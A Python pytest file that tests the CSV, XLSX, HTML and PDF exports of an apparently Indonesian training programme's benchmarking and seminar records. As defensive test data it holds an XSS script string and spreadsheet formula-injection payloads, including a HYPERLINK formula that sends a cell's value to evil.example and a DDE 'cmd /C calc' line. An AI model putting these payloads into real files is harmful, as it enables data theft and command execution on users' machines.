"""The exports (adapters/exports): the traceability table and host report as CSV, XLSX and HTML,
and a participant's record as CSV, XLSX, HTML and PDF, built from the reports of a cohort on
fakes."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from adapters.bootstrap import bootstrap
from adapters.clock import SettableClock
from adapters.exports.html import record_page, sheet_page, sheets_page
from adapters.exports.pdf import record_pdf
from adapters.exports.tables import (
    host_sections,
    host_sheet,
    host_sheets,
    practice_sheet,
    record_sheet,
    to_csv,
    to_xlsx,
    trace_sheet,
)
from adapters.settings import Settings
from domain.bench_commands import (
    AddMilestone,
    CreateSeminar,
    DecideAdoption,
    GradeSeminar,
    PlanVisit,
    RecordLesson,
    ScheduleSeminar,
    ScoreSeminar,
)
from domain.benchmarking import VisitSpec
from domain.content import AdoptionKind, MilestoneTerm
from domain.seminars import SeminarKind
from tests.bench_world import COHORT, Bench, build
from tests.fakes import FakeUnitOfWorkFactory

TRICKY = "<script>alert('x')</script> Musrenbang & e-Planning → RKPD"


@pytest.fixture(scope="module")
def bench() -> Iterator[Bench]:
    """p1 with a visit, two lessons (one with markup in it), a plan and a graded design seminar."""
    clock = SettableClock(datetime(2026, 3, 2, 0, 0, tzinfo=UTC))
    app = bootstrap(Settings(), clock=clock, uow_factory=FakeUnitOfWorkFactory())
    bench = build(app, clock)
    k, p1 = bench.ids["k"], bench.ids["p1"]
    app.planning.plan_visit(
        PlanVisit(
            actor_id=k,
            cohort_code=COHORT,
            visit=VisitSpec(code="MDN", start=date(2026, 3, 4), end=date(2026, 3, 6), groups=("I",), host_agency="Pemerintah Kota Medan", city="Kota Medan"),
        )
    )  # fmt: skip
    bench.to_stage("p1", "lesson_synthesis")
    lessons = [
        app.content.record_lesson(
            RecordLesson(actor_id=p1, project_id=bench.projects["p1"], host="mdn-bappeda", practice=practice, evidence="RKPD", success_key="Komitmen", lesson="Data dulu")
        ).id
        for practice in ("e-Planning", TRICKY)
    ]  # fmt: skip
    bench.submit("p1")
    bench.approve("p1")
    for term in MilestoneTerm:
        app.content.add_milestone(
            AddMilestone(actor_id=p1, project_id=bench.projects["p1"], title=f"Tonggak {term.value}", term=term, target_date=date(2026, 9, 1))
        )  # fmt: skip
    app.content.decide(DecideAdoption(actor_id=p1, lesson_id=lessons[0], kind=AdoptionKind.ADOPT, rationale="Cocok", milestones=(1, 2)))  # fmt: skip
    app.content.decide(DecideAdoption(actor_id=p1, lesson_id=lessons[1], kind=AdoptionKind.ADAPT, rationale="Skala", changes="Satu bidang", milestones=(3,)))  # fmt: skip
    session = app.seminars.create(
        CreateSeminar(actor_id=k, cohort_code=COHORT, kind=SeminarKind.DESIGN, starts_at=bench.clock.now(), examiners=("x1@uji.go.id",))
    )  # fmt: skip
    app.seminars.schedule(ScheduleSeminar(actor_id=k, session_id=session.id, participants=("p1@uji.go.id",)))  # fmt: skip
    for who, value in (("x1", 85), ("m1", 80), ("c1", 90)):
        app.seminars.score(ScoreSeminar(actor_id=bench.ids[who], session_id=session.id, participant="p1@uji.go.id", score=value))  # fmt: skip
    app.seminars.grade(GradeSeminar(actor_id=bench.ids["x1"], session_id=session.id, participant="p1@uji.go.id"))  # fmt: skip
    yield bench
    app.close()


def test_the_trace_csv_has_one_row_per_link_with_indonesian_headers(bench: Bench) -> None:
    table = bench.app.reports.trace(COHORT, bench.ids["k"])
    rows = list(csv.reader(io.StringIO(to_csv(trace_sheet(table, "id")))))
    header, body = rows[0], rows[1:]
    assert header[:6] == [
        "Peserta",
        "NIP",
        "Kelompok",
        "Kode mitra",
        "Mitra (lokus)",
        "Praktik terbaik",
    ]
    column = {name: i for i, name in enumerate(header)}
    links = [
        (
            r[column["No. pelajaran"]],
            r[column["Keputusan"]],
            r[column["No. tonggak"]],
            r[column["Jangka"]],
        )
        for r in body
    ]
    assert links == [
        ("1", "adopsi", "1", "jangka pendek"),
        ("1", "adopsi", "2", "jangka menengah"),
        ("2", "adaptasi", "3", "jangka panjang"),
    ]  # fmt: skip
    assert body[2][column["Praktik terbaik"]] == TRICKY
    assert body[0][column["Status"]] == "direncanakan"


def test_the_xlsx_export_has_a_bold_frozen_header_and_the_same_rows_in_english(
    bench: Bench,
) -> None:
    table = bench.app.reports.trace(COHORT, bench.ids["k"])
    sheet = trace_sheet(table, "en")
    book = load_workbook(
        io.BytesIO(
            to_xlsx([sheet, host_sheet(bench.app.reports.hosts(COHORT, bench.ids["k"]), "en")], "t")
        )
    )
    assert book.sheetnames == ["trace", "hosts"]
    ws = book["trace"]
    assert [c.value for c in ws[1]][:3] == ["Participant", "NIP", "Group"]
    assert ws["A1"].font.bold and ws.freeze_panes == "A2"
    assert ws.max_row == 1 + len(table.rows)
    hosts = book["hosts"]
    header = [c.value for c in hosts[1]]
    first = {header[i]: c.value for i, c in enumerate(hosts[2])}
    assert first["Host code"] == "mdn-bappeda" and first["Projects that adopted"] == 1
    assert first["Projects that adapted"] == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_would_start_a_formula_is_inert_in_csv_and_stays_text_in_xlsx() -> None:
    """What participants typed cannot run in the coordinator's spreadsheet (CSV injection)."""
    sheet = ("t", ["what", "count"], [[f, -5] for f in FORMULAS] + [["Inovasi 2019", 3]])
    rows = list(csv.reader(io.StringIO(to_csv(sheet), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Inovasi 2019"]
    assert {r[1] for r in rows[1:]} == {"-5", "3"}  # numbers are left as they are
    ws = load_workbook(io.BytesIO(to_xlsx([sheet], "t")))["t"]
    cells = [ws.cell(row=r, column=1) for r in range(2, len(FORMULAS) + 2)]
    assert [c.value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS]  # XML: CR → LF
    assert {c.data_type for c in cells} == {"s"}  # … as text, never a formula
    assert ws.cell(row=2, column=2).value == -5


def test_the_printable_html_escapes_what_participants_wrote(bench: Bench) -> None:
    table = bench.app.reports.trace(COHORT, bench.ids["k"])
    page = sheet_page(
        trace_sheet(table, "en"), table.cohort, table.generated_at, "trace_title", "en"
    )
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "Traceability: host practice → lesson → decision → milestone → status" in page
    assert "@page { size: A4 landscape" in page
    record = record_page(bench.app.reports.participant(bench.projects["p1"], bench.ids["p1"]), "id")
    assert "<script>" not in record
    assert "Catatan benchmarking dan seminar peserta" in record
    assert "memuaskan" in record and "MDN — Pemerintah Kota Medan" in record


def test_the_participant_record_is_a_pdf_with_its_font_embedded(bench: Bench) -> None:
    record = bench.app.reports.participant(bench.projects["p1"], bench.ids["m1"])
    data = record_pdf(record, "en")
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    assert b"/Type /Page" in data and b"DejaVu" in data
    assert len(data) > 5000


def test_the_host_report_has_one_row_per_host_partner_with_project_counts(bench: Bench) -> None:
    report = bench.app.reports.hosts(COHORT, bench.ids["k"])
    rows = list(csv.reader(io.StringIO(to_csv(host_sheet(report, "en")))))
    header, body = rows[0], rows[1:]
    assert header == [
        "Host code",
        "Unit",
        "Agency",
        "City",
        "Groups",
        "Practices taught",
        "Lessons",
        "Projects that learned",
        "Projects that adopted",
        "Projects that adapted",
        "Projects that did not adopt",
    ]
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    assert list(by_code) == ["mdn-bappeda", "mdn-bkpsdm"]  # one row per host, none per practice
    bappeda = by_code["mdn-bappeda"]
    assert bappeda["Practices taught"].split("; ") == sorted(["e-Planning", TRICKY])
    assert (bappeda["Lessons"], bappeda["Projects that learned"]) == ("2", "1")
    assert (bappeda["Projects that adopted"], bappeda["Projects that adapted"]) == ("1", "1")
    assert by_code["mdn-bkpsdm"]["Practices taught"] == ""
    assert by_code["mdn-bkpsdm"]["Projects that learned"] == "0"


def test_the_practice_sheet_counts_lessons_per_practice_and_the_html_shows_both_tables(
    bench: Bench,
) -> None:
    report = bench.app.reports.hosts(COHORT, bench.ids["k"])
    name, header, rows = practice_sheet(report, "id")
    assert name == "praktik" and header[:3] == ["Kode mitra", "Mitra (lokus)", "Praktik terbaik"]
    assert header[4:] == [
        "Pelajaran",
        "Pelajaran diadopsi",
        "Pelajaran diadaptasi",
        "Pelajaran tidak diadopsi",
        "Pelajaran belum diputuskan",
    ]
    assert sorted((r[2], r[4:]) for r in rows) == sorted(
        [("e-Planning", [1, 1, 0, 0, 0]), (TRICKY, [1, 0, 1, 0, 0])]
    )
    book = load_workbook(io.BytesIO(to_xlsx(host_sheets(report, "id"), "mitra")))
    assert book.sheetnames == ["mitra", "praktik"] and book["praktik"].max_row == 3
    page = sheets_page(host_sections(report, "id"), report.cohort, report.generated_at, "hosts_title", "id")  # fmt: skip
    assert "<h2>Per mitra benchmarking</h2>" in page and "<h2>Per praktik terbaik</h2>" in page
    assert page.count("<table>") == 2 and "<script>" not in page and "&lt;script&gt;" in page


def test_the_participant_record_is_one_table_for_csv_and_xlsx_with_every_entry(
    bench: Bench,
) -> None:
    record = bench.app.reports.participant(bench.projects["p1"], bench.ids["m1"])
    name, header, rows = record_sheet(record, "id")
    assert name == "catatan"
    assert header == ["Bagian", "No./kode", "Butir", "Rincian", "Tanggal", "Status"]
    sections = [r[0] for r in rows]
    assert sections[:5] == ["Peserta", "Proyek perubahan", "Mentor", "Coach", "Kelompok"]
    assert sections.count("Pelajaran") == 2 and sections.count("Keputusan") == 2
    assert sections.count("Tonggak") == 3 and sections[-1] == "Sertifikat"
    own = next(r for r in rows if r[0] == "Laporan benchmarking individu")
    assert own[1] == "v1" and own[2].startswith("laporan_benchmarking_individu: ")
    visit = next(r for r in rows if r[0] == "Kunjungan")
    assert visit[1:] == [
        "MDN",
        "Pemerintah Kota Medan, Kota Medan",
        "",
        "2026-03-04/2026-03-06",
        visit[5],
    ]
    decision = next(r for r in rows if r[0] == "Keputusan" and r[1] == 1)
    assert decision[2] == "adopsi" and decision[3] == "Cocok | Tonggak rencana perubahan: #1, #2"
    seminar = next(r for r in rows if r[0] == "Seminar")
    assert seminar[5] == "memuaskan" and "Penguji: 85" in seminar[3]
    csv_rows = list(csv.reader(io.StringIO(to_csv((name, header, rows)))))
    assert len(csv_rows) == 1 + len(rows) and any(TRICKY in cell for r in csv_rows for cell in r)
    book = load_workbook(io.BytesIO(to_xlsx([record_sheet(record, "en")], "record")))
    ws = book["record"]
    assert [c.value for c in ws[1]] == ["Section", "No./code", "Item", "Details", "Date", "Status"]
    assert ws.max_row == 1 + len(rows) and ws["A2"].value == "Participant"
